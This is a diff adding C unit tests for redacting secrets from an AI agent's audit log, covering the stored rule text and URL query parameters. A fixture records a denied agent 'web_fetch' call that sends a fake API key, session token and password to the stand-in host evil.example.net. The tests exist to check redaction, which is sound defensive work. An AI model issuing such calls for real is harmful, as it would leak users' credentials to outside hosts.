@@ -514,3 +514,61 @@ Test(audit_redact, digest_is_canonical)
     audit_args_digest("not  json", b);
     cr_assert_str_neq(a, b);
 }
+
+/* Red team: the decision reason quoted the refused URL, key and all, while the arguments were
+ * redacted. The stored rule must go through the same redaction. */
+static int rule_cb(const audit_record *r, void *ctx)
+{
+    int *n = ctx;
+    (*n)++;
+    cr_expect(!strstr(r->rule, "REPRO5REPRO5"), "secret in stored rule: %s", r->rule);
+    cr_expect(!strstr(r->rule, "hunter2"), "secret in stored rule: %s", r->rule);
+    cr_expect(!strstr(r->rule, "T0KENVALUE"), "secret in stored rule: %s", r->rule);
+    cr_expect(!strstr(r->rule, "abcdefghijklmnopqrstu"), "bearer in stored rule: %s", r->rule);
+    if (r->decision == AUDIT_DENIED)
+        cr_expect(strstr(r->rule, "no fetch: capability matches https://evil.example.net/x?"),
+                  "%s", r->rule);
+    else
+        cr_expect_str_eq(r->rule, "");
+    cr_expect(!strstr(r->args, "REPRO5REPRO5"), "%s", r->args);
+    return 0;
+}
+
+Test(audit, rule_field_is_redacted, .init = ws_setup, .fini = ws_teardown)
+{
+    audit_log *h = open_ws();
+    audit_record r = {
+        .session = "s", .agent = "a", .tool = "web_fetch",
+        .args = "{\"url\":\"https://evil.example.net/x?api_key=sk-proj-REPRO5REPRO5REPRO5REPRO5\"}",
+        .decision = AUDIT_DENIED,
+        .rule = "no fetch: capability matches https://evil.example.net/x?api_key=sk-proj-"
+                "REPRO5REPRO5REPRO5REPRO5&q=1&x_session_token=T0KENVALUE&pass=hunter2 "
+                "(Authorization: Bearer abcdefghijklmnopqrstu)",
+    };
+    char *err = NULL;
+    cr_assert(audit_append(h, &r, NULL, NULL, &err), "%s", err);
+    r.rule = NULL; /* a missing rule is stored as "" */
+    r.decision = AUDIT_ERROR;
+    cr_assert(audit_append(h, &r, NULL, NULL, &err), "%s", err);
+    int n = 0;
+    cr_assert(audit_list(h, NULL, rule_cb, &n, &err), "%s", err);
+    cr_expect_eq(n, 2);
+    char msg[200];
+    int64_t bad = 0;
+    cr_assert(audit_verify(h, &bad, msg, sizeof msg), "%s", msg);
+    audit_close(h);
+}
+
+Test(audit_redact, free_text_and_query_names)
+{
+    char *t = audit_redact_text("see https://h/p?q=1&X-Amz-Signature=abc123&sessionToken=zz9&ok=2");
+    cr_expect(!strstr(t, "abc123") && !strstr(t, "zz9"), "%s", t);
+    cr_expect(strstr(t, "q=1&") && strstr(t, "&ok=2"), "%s", t);
+    free(t);
+    t = audit_redact_text("allowed by fetch:https://api.example.com/v1");
+    cr_expect_str_eq(t, "allowed by fetch:https://api.example.com/v1");
+    free(t);
+    t = audit_redact_text(NULL);
+    cr_expect_str_eq(t, "");
+    free(t);
+}
